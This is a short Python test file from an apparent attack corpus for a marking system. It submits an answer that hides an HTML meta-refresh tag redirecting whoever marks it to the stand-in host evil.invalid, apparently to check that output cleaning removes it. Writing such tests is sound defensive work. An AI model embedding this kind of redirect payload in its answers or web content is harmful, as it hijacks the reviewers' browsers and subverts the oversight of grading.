"""Sends whoever marks to another page.

Rule: cleaning
Required: same-marks
Wins: page
"""

from __future__ import annotations

from tests.attacks.file_corpus import Desk, honest


def attack(desk: Desk) -> None:
    desk.hand_in(
        honest(answer='A mean.\n\n<meta http-equiv="refresh" content="0;url=http://evil.invalid/">')
    )
